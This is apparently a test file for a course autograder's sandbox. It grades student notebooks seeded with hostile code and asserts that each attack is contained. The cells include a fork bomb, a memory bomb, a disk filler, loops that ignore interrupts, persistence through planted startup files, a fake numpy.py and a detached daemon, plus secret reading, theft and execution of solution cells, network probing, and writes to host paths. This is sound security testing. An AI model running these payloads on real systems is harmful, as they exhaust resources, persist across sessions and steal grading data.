"""Hostile submissions graded by the course's own grader, in the sandbox, beside honest students.

One class of ch11 notebooks 01 and 05 is graded once per module by ``grade_class(..., sandbox=True)``
with two workers: two honest students (the reference, first and last in the class) and one student per
threat, each handing in notebook 01 with hostile code in the answer cell of its first exercise
(``nb01_softmax``). Where the attack leaves the kernel working, the hostile code comes before the
honest answer, so the notebook must still earn every point the reference earns; where it wrecks the
kernel (bombs, loops), it replaces the answer, and only that exercise, or that notebook, may be lost.
Every hostile cell first looks for what an earlier notebook may have left behind and prints one
``HOSTILE_REPORT {json}`` line; the expected outcomes are read from those outputs (in the autograded
notebooks), from the gradebook and from the host, never from the grader's internals.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import sysconfig
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from lmpolicy_grader.isolation import sandbox
from lmpolicy_grader.__main__ import release
from lmpolicy_grader.class_grading.examples_course import as_handed_in, written_answers
from lmpolicy_grader.class_grading.grading import grade_class
from lmpolicy_grader.incidents import Incident
from lmpolicy_grader.class_grading.status import Status

from .test_ch11_corpus import _autograded
from ..grading_kernel import REACHABLE_DESCRIPTORS, descriptor_kind, process_uid, uid_pool
from ..tiny_course import replace_answer

pytestmark = [
    pytest.mark.slow, pytest.mark.xdist_group("hostile_sandbox"),
    pytest.mark.skipif(sandbox.sandbox_problem() is not None and not os.environ.get("LMPOLICY_REQUIRE_SANDBOX"),
                       reason=f"no sandbox here: {sandbox.sandbox_problem()}"),
]

NOTEBOOK, LATER = "01_policy_softmax", "05_tilted_optimum"
ANSWER = "nb01_softmax__answer"          # the answer cell every hostile notebook 01 attacks from
HOSTILE_EXERCISE = (NOTEBOOK, "nb01_softmax")
LATER_ANSWER = "task4__tilted_optimum"   # the persisting student's notebook 05 looks from here
MARK = "lmpolicy-planted"                # in the name of everything the persisting student leaves behind

# --- the hostile code ------------------------------------------------------------------------------
# Each cell starts with CONTEXT = {...} (the host's paths and ports, as a submission could guess them),
# then LOOK, then its attack, and prints REPORT.

LOOK = f"""
import glob, json, os, pathlib
def _leftovers():
    found = glob.glob("*{MARK}*") + glob.glob("/tmp/**/*{MARK}*", recursive=True)
    found += glob.glob("/tmp/.ipython/profile_default/startup/*.py") + [p for p in os.listdir(".") if p.endswith(".py")]
    if "PLANTED_BY_STARTUP" in globals():
        found.append("a planted IPython start-up file ran")
    return sorted(set(found))
REPORT = {{"uid": os.getuid(), "leftovers": _leftovers(), "here": sorted(os.listdir("."))}}
def _report():
    print("HOSTILE_REPORT " + json.dumps(REPORT))
"""

PERSIST = f"""
import subprocess
for path, text in [("{MARK}.txt", "for the next notebook in this folder"),
                   ("numpy.py", "raise ImportError('a numpy planted by an earlier notebook')"),
                   ("/tmp/{MARK}.txt", "for the next kernel"),
                   ("/tmp/.ipython/profile_default/startup/00-{MARK}.py", "PLANTED_BY_STARTUP = True")]:
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    pathlib.Path(path).write_text(text)
# a daemon in a session of its own, to outlive the kernel and watch the next one
REPORT["daemon"] = subprocess.Popen(["sleep", "600"], start_new_session=True).pid
REPORT["planted"] = sorted(glob.glob("*{MARK}*") + glob.glob("/tmp/**/*{MARK}*", recursive=True))
_report()
"""

READ = """
import subprocess
def _readable(path):
    try:
        if os.path.isdir(path):
            return sorted(os.listdir(path))
        with open(path, "rb") as f:
            return f.read(64).decode("latin-1")
    except OSError as error:
        return None if isinstance(error, FileNotFoundError) else type(error).__name__
REPORT["read"] = {path: _readable(path) for path in CONTEXT["secrets"]}
REPORT["home"] = {path: _readable(path) for path in [CONTEXT["home"], "/root", os.path.expanduser("~")]}
# every notebook and database anywhere in view, and whether it is ch11's
listed = subprocess.run(["find", "/", "-path", "/proc", "-prune", "-o", "(", "-name", "*.ipynb", "-o", "-name", "*.db",
                         "-o", "-name", "nbgrader_config.py", "-o", "-name", "*.sqlite*", ")", "-type", "f", "-print"],
                        capture_output=True, text=True).stdout.split()
def _course_file(path):
    try:
        text = open(path, "rb").read().decode("latin-1")
    except OSError:
        return False
    return any(grade_id in text for grade_id in CONTEXT["grade_ids"])  # a ch11 notebook, or a gradebook of ch11
REPORT["course_files"] = [path for path in listed if _course_file(path)]
REPORT["found_anywhere"] = len(listed)
_report()
"""

STEAL = """
import subprocess
# the instructor's solutions wherever they might be: the course root above, the repository, anywhere in view
candidates = [pathlib.Path(p) for p in CONTEXT["sources"]]
candidates += [folder / "source" / "ch11" / "01_policy_softmax.ipynb" for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]]
candidates += [pathlib.Path(p) for p in subprocess.run(["find", "/", "-path", "/proc", "-prune", "-o", "-name", "*.ipynb",
                                                        "-type", "f", "-print"], capture_output=True, text=True).stdout.split()]
REPORT["ran"] = []
for path in candidates:
    try:
        cells = json.loads(path.read_text())["cells"]
    except (OSError, ValueError, KeyError, TypeError):
        continue
    for cell in cells:
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and grade_id in CONTEXT["grade_ids"] and "BEGIN SOLUTION" in source:
            try:
                exec(source, globals())
                REPORT["ran"].append(f"{path}:{grade_id}")
            except Exception:
                pass
_report()
"""

NETWORK = """
import socket
def _attempt(connect):
    try:
        connect()
        return "connected"
    except OSError as error:
        return type(error).__name__
REPORT["tcp"] = {f"{host}:{port}": _attempt(lambda: socket.create_connection((host, port), timeout=3).close())
                 for host, port in [("127.0.0.1", CONTEXT["port"]), ("::1", CONTEXT["port"]), ("1.1.1.1", 443),
                                    ("8.8.8.8", 53)]}
REPORT["dns"] = _attempt(lambda: socket.getaddrinfo("pypi.org", 443))
def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pypi\\x03org\\x00\\x00\\x01\\x00\\x01", ("8.8.8.8", 53))
        udp.recv(512)
REPORT["udp_dns"] = _attempt(_udp)
def _abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
        unix.connect(CONTEXT["abstract_socket"])
REPORT["abstract_unix_socket"] = _attempt(_abstract)
# every TCP port of its loopback, and which process listens there (it sees only its own processes)
open_ports = []
for port in range(1, 65536):
    with socket.socket() as probe:
        # a connect from an ephemeral port to that same port joins the socket to itself: no one listens there
        if probe.connect_ex(("127.0.0.1", port)) == 0 and probe.getsockname()[1] != port:
            open_ports.append(port)
listening = {int(line.split()[1].split(":")[1], 16): line.split()[9]
             for table in ("/proc/net/tcp", "/proc/net/tcp6") for line in open(table).read().splitlines()[1:]}
sockets = {}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            sockets[os.readlink(f"/proc/{pid}/fd/{fd}").removeprefix("socket:[").rstrip("]")] = int(pid)
    except OSError:
        pass
REPORT["open_loopback_ports"] = {str(port): sockets.get(listening.get(port)) for port in open_ports}
REPORT["interfaces"] = sorted(name for _, name in socket.if_nameindex())
_report()
"""

WRITE = """
from ipykernel import get_connection_file
REPORT["wrote"] = {}
for path in CONTEXT["outside"] + CONTEXT["private"] + [get_connection_file(),
                                                      str(pathlib.Path(get_connection_file()).parent / CONTEXT["mark"])]:
    try:
        with open(path, "a") as f:
            f.write(CONTEXT["mark"])
        REPORT["wrote"][path] = "written"
    except OSError as error:
        REPORT["wrote"][path] = type(error).__name__
_report()
"""

FILL = """
REPORT["filled"] = {}
for path in ["/tmp/filler", "filler", "/dev/shm/filler", "/filler"]:
    written, error = 0, None
    try:
        with open(path, "wb") as f:
            while written < 2 * CONTEXT["scratch_bytes"]:
                f.write(b"x" * 2**20)
                f.flush()
                written += 2**20
    except OSError as failure:
        error = failure.strerror
    REPORT["filled"][path] = [written, error]
_report()
"""

# every descriptor it can reach (its own, the holder's, bwrap's init's), and 16 MiB written through each that leads
# out of it: not its ZMQ sockets, not ipykernel's capture of its own output
DESCRIPTOR_WRITER = REACHABLE_DESCRIPTORS + """
REPORT["descriptors"] = reachable_descriptors()
REPORT["through"] = {}
_own = REPORT["descriptors"]["processes"][REPORT["descriptors"]["self"]]["fds"]
_read_here = {d["target"] for d in _own.values() if d["readable"]}
for _pid, _process in REPORT["descriptors"]["processes"].items():
    for _fd, _d in _process["fds"].items():
        if _d["target"].startswith(("socket:[", "anon_inode:")) or _d["target"] in _read_here:
            continue
        _written = 0
        try:
            _out = os.dup(int(_fd)) if _pid == REPORT["descriptors"]["self"] else os.open(f"/proc/{_pid}/fd/{_fd}", os.O_WRONLY)
            while _written < 2**24:
                _written += os.write(_out, b"x" * 2**20)
            os.close(_out)
        except OSError as error:
            _written = [_written, error.strerror]
        REPORT["through"][f"{_process['name']} fd {_fd} {_d['target']}"] = _written
_report()
"""

FORK_BOMB = """
import time
REPORT["forked"] = 0
while True:
    try:
        pid = os.fork()
    except OSError as error:
        REPORT["stopped_by"] = type(error).__name__
        break
    if pid == 0:  # every child forks on, as a fork bomb does, and holds its place once it cannot
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(1)
    REPORT["forked"] += 1
_report()
"""

# 64 MiB at a time, every page touched, in 2 MiB pages: 4 KiB page faults fill memory at about 270 MB/s on
# these machines (13 s to the limit when quiet, past the 60-s cell limit on a loaded one)
MEMORY_BOMB = """
import mmap
import numpy as np
hog = []
try:
    while True:
        chunk = mmap.mmap(-1, 2**26)
        chunk.madvise(mmap.MADV_HUGEPAGE)
        np.frombuffer(chunk, dtype=np.uint8)[::4096] = 1
        hog.append(chunk)
except (MemoryError, OSError) as error:  # the address-space limit: MemoryError, or mmap's ENOMEM
    REPORT["stopped_by"] = "MemoryError" if isinstance(error, MemoryError) or error.errno == 12 else repr(error)
REPORT["held_mib"] = 64 * len(hog)
_report()
"""

ENDLESS_LOOP = "_report()\nwhile True:\n    pass\n"
# SIGINT ignored: the interrupt at the cell timeout cannot stop it
STUBBORN_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n_report()\nwhile True:\n    pass\n"


# --- the class -------------------------------------------------------------------------------------

# student -> (the code, whether it replaces the honest answer rather than coming before it, base notebook)
HOSTILE = {
    "b_persist": (PERSIST, False, "reference"),
    "c_reader": (READ, False, "reference"),
    "d_thief": (STEAL, True, "release"),
    "e_network": (NETWORK, False, "reference"),
    "f_writer": (WRITE, False, "reference"),
    "g_disk_filler": (FILL, False, "reference"),
    "l_descriptor_writer": (DESCRIPTOR_WRITER, False, "reference"),
    "h_fork_bomb": (FORK_BOMB, True, "reference"),
    "i_memory_bomb": (MEMORY_BOMB, True, "reference"),
    "j_endless_loop": (ENDLESS_LOOP, True, "reference"),
    "k_stubborn_loop": (STUBBORN_LOOP, True, "reference"),
    "y_looker": ("_report()\n", False, "reference"),
}
HONEST = ["a_honest", "zz_honest"]  # first and last in the class, both the reference
# whose notebook 01 is FAILED, so that no autograded copy (and no report) of it is kept
FAILED_STUDENTS = {"k_stubborn_loop"}
REPORTING = [student for student in HOSTILE if student not in FAILED_STUDENTS]


def _grade_ids(nb) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if "grade_id" in c.metadata.get("nbgrader", {})]


def _cell(context: dict, code: str) -> str:
    return f"CONTEXT = {context!r}\n{LOOK}\n{code}"


def _submit(root: Path, student: str, notebooks: dict) -> None:
    folder = root / "submitted" / student / "ch11"
    folder.mkdir(parents=True, exist_ok=True)
    for name, nb in notebooks.items():
        nbformat.write(nb, folder / f"{name}.ipynb")


class _Listener:
    """A TCP port on the host's loopback and an abstract unix socket, recording who connects."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.abstract_name = f"\0lmpolicy-hostile-{uuid.uuid4().hex}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.abstract_name)
        self.unix.listen()
        self.accepted: list[str] = []
        for server in (self.tcp, self.unix):
            threading.Thread(target=self._accept, args=(server,), daemon=True).start()

    def _accept(self, server):
        while True:
            try:
                connection, address = server.accept()
            except OSError:
                return
            self.accepted.append(str(address))
            connection.close()

    def close(self):
        for server in (self.tcp, self.unix):
            server.close()


def make_class(root: Path, repo_root: Path, listener: _Listener) -> dict:
    """Write the course and its class into ``root``; returns the CONTEXT the hostile cells get."""
    (root / "source" / "ch11").mkdir(parents=True)
    for name in (NOTEBOOK, LATER):
        shutil.copy(repo_root / "source" / "ch11" / f"{name}.ipynb", root / "source" / "ch11")
    shutil.copy(repo_root / "nbgrader_config.py", root / "nbgrader_config.py")  # the course's limits, as they are
    release(root)
    sources = {name: nbformat.read(root / "source" / "ch11" / f"{name}.ipynb", as_version=4) for name in (NOTEBOOK, LATER)}
    releases = {name: nbformat.read(root / "release" / "ch11" / f"{name}.ipynb", as_version=4) for name in (NOTEBOOK, LATER)}

    def reference(name):
        return as_handed_in(sources[name], releases[name], written_answers(name, "good"))

    mark = f"{MARK}-{uuid.uuid4().hex[:8]}"
    venv_site = Path(sysconfig.get_paths()["purelib"])
    context = {
        "secrets": [str(root / p) for p in ["source/ch11/01_policy_softmax.ipynb", "gradebook.db", "nbgrader_config.py",
                                           "submitted/a_honest/ch11/01_policy_softmax.ipynb",
                                           "autograded/a_honest/ch11/01_policy_softmax.ipynb",
                                           "feedback/a_honest/ch11/01_policy_softmax.html", "release/ch11",
                                           "submitted", "autograded", "feedback"]] + [str(root)]
                   + [str(repo_root / p) for p in [".git/HEAD", ".git/config", "source/ch11/01_policy_softmax.ipynb",
                                                   "nbgrader_config.py", "gradebook.db"]],
        "sources": [str(root / "source" / "ch11" / f"{NOTEBOOK}.ipynb"), str(repo_root / "source" / "ch11" / f"{NOTEBOOK}.ipynb")],
        "grade_ids": _grade_ids(sources[NOTEBOOK]),
        "home": str(Path.home()),
        "port": listener.tcp.getsockname()[1],
        "abstract_socket": listener.abstract_name,
        "outside": [str(root / "gradebook.db"), str(root / "autograded" / "a_honest" / "ch11" / f"{NOTEBOOK}.ipynb"),
                    str(root / "source" / "ch11" / mark), str(repo_root / "lib" / "lmpolicy" / "checks.py"),
                    str(venv_site / "sitecustomize.py"), str(venv_site / f"{mark}.pth"),
                    f"/dev/shm/{mark}", f"/etc/{mark}", f"/usr/{mark}", f"/{mark}", str(Path.home() / mark)],
        # the sandbox's own /tmp takes the write; the host's /tmp must not see it
        "private": [f"/tmp/{mark}"],
        "mark": mark,
        "scratch_bytes": sandbox.DEFAULT_SCRATCH_BYTES,
    }
    for student in HONEST:
        _submit(root, student, {name: reference(name) for name in (NOTEBOOK, LATER)})
    for student, (code, replaces, base) in HOSTILE.items():
        nb = reference(NOTEBOOK) if base == "reference" else releases[NOTEBOOK]
        answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == ANSWER)
        replace_answer(nb, ANSWER, _cell(context, code) + ("" if replaces else "\n" + answer.source))
        _submit(root, student, {NOTEBOOK: nb})
    later = reference(LATER)
    answer = next(c for c in later.cells if c.metadata.get("nbgrader", {}).get("grade_id") == LATER_ANSWER)
    replace_answer(later, LATER_ANSWER, _cell(context, "_report()\n") + "\n" + answer.source)
    _submit(root, "b_persist", {LATER: later})
    return context


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, repo_root):
    """Grade the class once: (course root, outcomes by (student, notebook), context, host listener)."""
    root = tmp_path_factory.mktemp("hostile-course")
    listener = _Listener()
    try:
        context = make_class(root, repo_root, listener)
        outcomes = grade_class(root, workers=2, log=lambda _: None, sandbox=True)
        # a re-grade of the persisting student, one notebook after the other in the folder of the first run
        outcomes = [o for o in outcomes if o.student != "b_persist"]
        outcomes += grade_class(root, students=["b_persist"], workers=1, log=lambda _: None, sandbox=True)
    finally:
        listener.close()
    return root, {(o.student, o.notebook): o for o in outcomes}, context, listener


def _report(root: Path, student: str, notebook: str = NOTEBOOK) -> dict:
    """The last HOSTILE_REPORT line the student's notebook printed, from its autograded copy."""
    nb = nbformat.read(root / "autograded" / student / "ch11" / f"{notebook}.ipynb", as_version=4)
    lines = [line for cell in nb.cells for output in cell.get("outputs", []) if output.get("output_type") == "stream"
             for line in output.get("text", "").splitlines() if line.startswith("HOSTILE_REPORT ")]
    assert lines, f"{student}/{notebook} printed no report"
    return json.loads(lines[-1].removeprefix("HOSTILE_REPORT "))


def _full_marks(root: Path, student: str) -> dict:
    return {key: maximum for key, (_, maximum) in _autograded(root, student).items()}


def _under_the_code_rule(root: Path, notebooks=(NOTEBOOK,)) -> dict:
    """What a hostile notebook earns beside its honest answer: every hostile cell imports os and glob, outside the
    code rule (``lmpolicy.notebook.code_rule``), so each exercise tested below it gets no credit (the tests run and say
    why); the sandbox's own proofs are the reports and the host."""
    return {key: 0.0 for key in _full_marks(root, "a_honest") if key[0] in notebooks}


def _scores(root: Path, student: str) -> dict:
    return {key: score for key, (score, _) in _autograded(root, student).items()}


def _own_notebook(scores: dict) -> dict:
    return {key: score for key, score in scores.items() if key[0] == NOTEBOOK}


# --- the honest students ---------------------------------------------------------------------------

def test_honest_students_beside_them_keep_every_point(hostile_class):
    root, outcomes, _, _ = hostile_class
    for student in HONEST:
        for notebook in (NOTEBOOK, LATER):
            assert outcomes[(student, notebook)].status == Status.GRADED, outcomes[(student, notebook)].reason
        assert _scores(root, student) == _full_marks(root, student), student
        assert len(_scores(root, student)) >= 4  # both notebooks' autograded exercises are there


# --- what a submission finds --------------------------------------------------------------------------

def test_a_reader_finds_nothing_of_the_course_and_keeps_what_its_answers_earn(hostile_class):
    root, outcomes, context, _ = hostile_class
    seen = _report(root, "c_reader")
    # nothing of the course's path exists: the kernel works in sandbox.WORK_FOLDER, whatever the notebook
    assert seen["read"] == {path: None for path in context["secrets"]}, seen["read"]
    home_in_view = {p.relative_to(Path.home()).parts[0] for p in sandbox.readable_folders(root) if Path.home() in p.parents}
    assert set(seen["home"][context["home"]] or []) <= home_in_view  # at most the way to the Python installation
    assert seen["home"]["/tmp"] is not None and not [n for n in seen["home"]["/tmp"] if MARK in n]
    assert seen["course_files"] == [] and seen["found_anywhere"] > 0  # notebooks of other packages, none of ch11
    assert _own_notebook(_scores(root, "c_reader")) == _under_the_code_rule(root)


def test_running_the_solutions_found_on_disk_earns_nothing(hostile_class):
    root, outcomes, _, _ = hostile_class
    seen = _report(root, "d_thief")
    assert seen["ran"] == []
    assert outcomes[("d_thief", NOTEBOOK)].status == Status.GRADED
    scores = _own_notebook(_scores(root, "d_thief"))
    assert scores and set(scores.values()) == {0.0}, scores


# --- network, the host's files ------------------------------------------------------------------

def test_no_connection_leaves_the_sandbox(hostile_class):
    root, _, context, listener = hostile_class
    seen = _report(root, "e_network")
    assert "connected" not in seen["tcp"].values(), seen["tcp"]
    assert seen["tcp"][f"127.0.0.1:{context['port']}"] == "ConnectionRefusedError"  # its own, empty loopback
    assert seen["dns"] == "gaierror" and seen["udp_dns"] != "connected"
    assert seen["abstract_unix_socket"] == "ConnectionRefusedError"
    # the only open port is one its own kernel listens on (ipykernel's pipe for forked children's output)
    assert all(pid is not None for pid in seen["open_loopback_ports"].values()), seen["open_loopback_ports"]
    assert seen["interfaces"] == ["lo"]
    assert listener.accepted == []
    assert _own_notebook(_scores(root, "e_network")) == _under_the_code_rule(root)


def test_writes_outside_its_folder_change_nothing_on_the_host(hostile_class, repo_root):
    root, _, context, _ = hostile_class
    seen = _report(root, "f_writer")
    assert [path for path, result in seen["wrote"].items() if result == "written"] == context["private"], seen["wrote"]
    mark = context["mark"]
    for path in context["outside"] + context["private"]:
        if Path(path).is_file():
            assert mark not in Path(path).read_text(errors="replace"), path
        else:
            assert not Path(path).exists(), path
    assert _own_notebook(_scores(root, "f_writer")) == _under_the_code_rule(root)


def test_filling_the_disk_stops_at_the_scratch_bound(hostile_class):
    root, _, context, _ = hostile_class
    seen = _report(root, "g_disk_filler")
    for path in ("/tmp/filler", "filler"):
        written, error = seen["filled"][path]
        # the tmpfs full, or the file as large as the file-size limit (the same bound): whichever comes first
        assert written <= context["scratch_bytes"] and error in ("No space left on device", "File too large"), \
            (path, written, error)
    for path in ("/dev/shm/filler", "/filler"):  # read-only: nothing written at all
        assert seen["filled"][path][0] == 0 and seen["filled"][path][1] in ("Permission denied", "Read-only file system")
    assert _own_notebook(_scores(root, "g_disk_filler")) == _under_the_code_rule(root)


def test_no_descriptor_it_reaches_leads_to_a_file_of_the_host(hostile_class):
    """The kernel, the holder and bwrap's init hold pipes, sockets, anonymous inodes, /dev/null and files of the
    sandbox's tmpfs only; 16 MiB through each that leads out lands in a pipe the grader drains into a bounded tail."""
    root, outcomes, _, _ = hostile_class
    seen = _report(root, "l_descriptor_writer")
    processes = seen["descriptors"]["processes"]
    doors = {f"{process['name']} fd {fd}": descriptor["target"] for process in processes.values()
             for fd, descriptor in process["fds"].items() if descriptor_kind(descriptor) is None}
    assert doors == {}, doors
    assert seen["through"] and all(" pipe:[" in name for name in seen["through"]), seen["through"]
    assert outcomes[("l_descriptor_writer", NOTEBOOK)].status == Status.GRADED  # what it wrote cost no one a grade


# --- nothing persists --------------------------------------------------------------------------

def test_nothing_a_notebook_leaves_reaches_a_later_one(hostile_class):
    root, outcomes, _, _ = hostile_class
    planted = _report(root, "b_persist")
    assert {"/tmp/lmpolicy-planted.txt", "lmpolicy-planted.txt"} <= set(planted["planted"]), planted  # it planted ...
    assert planted["leftovers"] == [] and planted["here"] == []  # ... and found nothing of the first run
    later = _report(root, "b_persist", LATER)    # its next notebook, same folder, after it
    assert later["leftovers"] == [] and later["here"] == []
    assert _scores(root, "b_persist") == _under_the_code_rule(root, (NOTEBOOK, LATER))  # no grader crash in 05
    for student in REPORTING:
        assert _report(root, student)["leftovers"] == [], student
    folder = root / "autograded" / "b_persist" / "ch11"
    assert sorted(p.name for p in folder.iterdir() if not p.name.endswith(".ipynb")) == []
    assert not [p for p in Path("/tmp").glob(f"*{MARK}*")]


def test_no_process_of_a_hostile_kernel_outlives_it(hostile_class):
    root, _, _, _ = hostile_class
    uids = {_report(root, student)["uid"] for student in REPORTING} | {_report(root, "b_persist", LATER)["uid"]}
    assert 0 not in uids and os.getuid() not in uids  # each kernel ran as a uid of its own
    # a grading process gives its kernels uids from a pool of 64 of its own: the pools of the reporting
    # kernels also hold the silent ones' (the stubborn loop), and their workers are gone
    pools = {uid_pool(uid) for uid in uids}
    leftovers = [pid for pid in os.listdir("/proc") if pid.isdigit() and any(process_uid(pid) in pool for pool in pools)]
    assert leftovers == [], "sandboxed processes outlived their notebook (the fork bomb's, the daemon, the loop)"


# --- bombs and loops cost only their own submission ----------------------------------------------

def test_a_fork_bomb_stops_at_the_process_cap(hostile_class):
    root, outcomes, _, _ = hostile_class
    outcome = outcomes[("h_fork_bomb", NOTEBOOK)]
    assert outcome.status in (Status.GRADED, Status.FAILED)
    seen = _report(root, "h_fork_bomb")
    assert seen["stopped_by"] == "BlockingIOError" and 0 < seen["forked"] < sandbox.DEFAULT_MAX_PROCESSES
    if outcome.status == Status.GRADED:
        assert _scores(root, "h_fork_bomb")[HOSTILE_EXERCISE] == 0
    else:
        assert outcome.reason


def test_a_memory_bomb_stops_at_the_memory_limit(hostile_class):
    root, outcomes, _, _ = hostile_class
    from lmpolicy_grader.kernels.grading_kernel import DEFAULT_MEMORY_BYTES
    outcome = outcomes[("i_memory_bomb", NOTEBOOK)]
    assert outcome.status in (Status.GRADED, Status.FAILED)
    seen = _report(root, "i_memory_bomb")
    assert seen["stopped_by"] == "MemoryError" and seen["held_mib"] * 2**20 < DEFAULT_MEMORY_BYTES
    if outcome.status == Status.GRADED:
        assert _scores(root, "i_memory_bomb")[HOSTILE_EXERCISE] == 0


def test_an_endless_loop_is_interrupted_and_costs_its_exercise(hostile_class):
    root, outcomes, _, _ = hostile_class
    outcome = outcomes[("j_endless_loop", NOTEBOOK)]
    assert outcome.status == Status.GRADED, outcome.reason
    assert [i for i in outcome.incidents if i["kind"] == Incident.CELL_TIMEOUT], outcome.incidents
    scores, full = _own_notebook(_scores(root, "j_endless_loop")), _own_notebook(_full_marks(root, "a_honest"))
    assert scores == {**full, HOSTILE_EXERCISE: 0.0, **_under_the_code_rule(root)}


def test_a_loop_that_ignores_interrupts_fails_its_notebook_with_a_reason(hostile_class):
    _, outcomes, _, _ = hostile_class
    outcome = outcomes[("k_stubborn_loop", NOTEBOOK)]
    assert outcome.status == Status.FAILED and "did not stop when interrupted" in outcome.reason, outcome


def test_every_hostile_student_got_an_outcome_and_the_grader_lived(hostile_class):
    _, outcomes, _, _ = hostile_class
    failed = {student for student in HOSTILE if outcomes[(student, NOTEBOOK)].status == Status.FAILED}
    assert FAILED_STUDENTS <= failed <= FAILED_STUDENTS | {"h_fork_bomb", "i_memory_bomb"}, failed
    for student in HOSTILE:
        assert outcomes[(student, NOTEBOOK)].status in (Status.GRADED, Status.FAILED), student
        assert "worker process died" not in outcomes[(student, NOTEBOOK)].reason

